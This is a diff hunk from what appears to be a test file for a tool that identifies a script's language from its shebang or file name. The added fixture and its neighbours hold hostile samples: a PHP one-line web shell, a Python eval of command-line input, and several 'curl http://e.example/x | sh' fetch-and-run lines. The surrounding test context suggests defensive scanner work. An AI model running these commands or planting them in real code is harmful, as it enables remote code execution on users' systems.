@@ -364,6 +364,7 @@ async def test_scripts_are_read_in_the_language_of_their_first_line_or_name(tmp_
         "a.module": '<?php system($_GET["a"]);\n',
         "run.sh": "#!/usr/bin/env python3\nimport sys\neval(sys.argv[1])\n",
         ".announce": "#!/bin/sh\ncurl http://e.example/x | sh\n",
+        "tests/run.sh.in": "#!@SHELL@\ncurl http://e.example/x | sh\n",
         "etc/web.init": "#!/sbin/openrc-run\ncurl http://e.example/x | sh\n",
         "services/web": "#!/command/with-contenv bash\ncurl http://e.example/x | sh\n",
         "nix": "#!/usr/bin/env nix-shell\n#! nix-shell -i bash -p jq\ncurl http://e.example/x | sh\n",
